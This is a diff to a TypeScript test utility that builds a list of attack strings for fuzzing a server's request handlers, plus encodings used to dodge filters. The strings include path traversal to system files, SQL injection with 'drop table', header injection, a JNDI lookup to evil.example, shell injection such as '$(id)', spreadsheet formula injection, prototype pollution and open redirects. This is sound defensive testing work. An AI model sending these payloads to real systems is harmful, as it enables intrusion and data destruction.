@@ -5,22 +5,22 @@ import { elementsIn } from "../output/read-back.test.util.js";
 /** What is sent to servers, to reach a file, a database, a header, a template or a prototype. */
 const requestStrings: readonly string[] = [
   // Files
-  ...["../", "..\\", "%2e%2e/", "..%2f", "%252e%252e%252f", "..%c0%af", "....//", "/./"].map(
+  ["../", "..\\", "%2e%2e/", "..%2f", "%252e%252e%252f", "..%c0%af", "....//", "/./"].map(
     (up) => `${up}${up}etc/passwd`,
   ),
-  ...["/etc/passwd%00.html", "C:\\windows\\win.ini", "file:///etc/passwd", "\\\\evil.example\\share", "con", "nul"],
+  ["/etc/passwd%00.html", "C:\\windows\\win.ini", "file:///etc/passwd", "\\\\evil.example\\share", "con", "nul"],
   // Databases
-  ...["' or '1'='1", "1; drop table revision", "' union select hash from token --", '" or ""="', "1) or (1=1", "%' --"],
-  ...["x' and randomblob(1e9) --", "$1", "{$gt: ''}", "\u0000", "a\u0000b", "*", "_%"],
+  ["' or '1'='1", "1; drop table revision", "' union select hash from token --", '" or ""="', "1) or (1=1", "%' --"],
+  ["x' and randomblob(1e9) --", "$1", "{$gt: ''}", "\u0000", "a\u0000b", "*", "_%"],
   // Headers
-  ...["x\r\nSet-Cookie: a=b", "x\nX-Evil: 1", "x\r\n\r\n<script>alert(1)</script>", "%0d%0aSet-Cookie:%20a=b"],
-  ...["\u560a\u560dSet-Cookie: a=b", "x%E5%98%8A%E5%98%8DX: 1", "bytes=0-", 'W/"x"', '"', '*, "x"'],
+  ["x\r\nSet-Cookie: a=b", "x\nX-Evil: 1", "x\r\n\r\n<script>alert(1)</script>", "%0d%0aSet-Cookie:%20a=b"],
+  ["\u560a\u560dSet-Cookie: a=b", "x%E5%98%8A%E5%98%8DX: 1", "bytes=0-", 'W/"x"', '"', '*, "x"'],
   // Templates, logs, shells
-  ...["${7*7}", "#{7*7}", "{{7*7}}", "<%= 7*7 %>", "${jndi:ldap://evil.example/a}", "$(id)", "`id`", "; id", "| id"],
-  ...["%n%s%x", "%s%s%s%s", "\u001b[2J", "!!js/function >\n  x", "=cmd|' /C calc'!A0"],
+  ["${7*7}", "#{7*7}", "{{7*7}}", "<%= 7*7 %>", "${jndi:ldap://evil.example/a}", "$(id)", "`id`", "; id", "| id"],
+  ["%n%s%x", "%s%s%s%s", "\u001b[2J", "!!js/function >\n  x", "=cmd|' /C calc'!A0"],
   // Prototypes and numbers
-  ...["__proto__", "constructor", "prototype", "toString", "hasOwnProperty", "__proto__[polluted]", "a[]", "a[b]=c"],
-  ...[
+  ["__proto__", "constructor", "prototype", "toString", "hasOwnProperty", "__proto__[polluted]", "a[]", "a[b]=c"],
+  [
     "NaN",
     "Infinity",
     "-1",
@@ -37,33 +37,24 @@ const requestStrings: readonly string[] = [
     "null",
   ],
   // Days
-  ...[
-    "0000-00-00",
-    "2026-02-30",
-    "2026-13-01",
-    "9999-12-31",
-    "0000-01-01",
-    "-000001-01-01",
-    "+275760-09-14",
-    "2026-3-5",
-  ],
-  ...["2026-03-05T00:00:00Z", "2026-03-05 ", "@2026-03-05", "２０２６-03-05", "20260305"],
+  ["0000-00-00", "2026-02-30", "2026-13-01", "9999-12-31", "0000-01-01", "-000001-01-01", "+275760-09-14", "2026-3-5"],
+  ["2026-03-05T00:00:00Z", "2026-03-05 ", "@2026-03-05", "２０２６-03-05", "20260305"],
   // Addresses
-  ...[
+  [
     "//evil.example",
     "https://evil.example",
     "https://embeds.example@evil.example/",
     "https://embeds.example.evil.example/",
   ],
-  ...[
+  [
     "https://embeds.example:443@evil.example",
     "http://embeds.example/embed/port-wages/timeline",
     "https://[::1]/",
     "https://",
   ],
-  ...['https://embeds.example/embed/port-wages/timeline?published="><script>', "https://embeds.example/\\evil.example"],
+  ['https://embeds.example/embed/port-wages/timeline?published="><script>', "https://embeds.example/\\evil.example"],
   // What a server may choke on
-  ...[
+  [
     "%",
     "%zz",
     "%ff",
@@ -82,8 +73,8 @@ const requestStrings: readonly string[] = [
     "é",
     "e\u0301",
   ],
-  ...["a".repeat(1900), "%".repeat(600), "/".repeat(600), "[".repeat(600), "&a=b".repeat(300), "../".repeat(300)],
-];
+  ["a".repeat(1900), "%".repeat(600), "/".repeat(600), "[".repeat(600), "&a=b".repeat(300), "../".repeat(300)],
+].flat();
 
 /** Each one in the ways in which filters are often avoided. */
 const disguised = [
@@ -99,8 +90,8 @@ const disguised = [
   text.replaceAll("<", "&lt;").replaceAll('"', "&quot;"),
   text.replaceAll("<", "\\u003c"),
   text.replaceAll("<", "\\x3c"),
-  [...text].join("\u0000"),
-  [...text].join("\t"),
+  Array.from(text).join("\u0000"),
+  Array.from(text).join("\t"),
   `\ufeff${text}`,
   `${text}%00`,
   `%0a${text}`,
@@ -112,7 +103,7 @@ const disguised = [
   `+ADw-${text}`,
   `{"a":"${text}"}`,
   `<!--${text}-->`,
-  `${text}`.repeat(20),
+  text.repeat(20),
 ]);
 
 /** Every string that a handler is attacked with. */
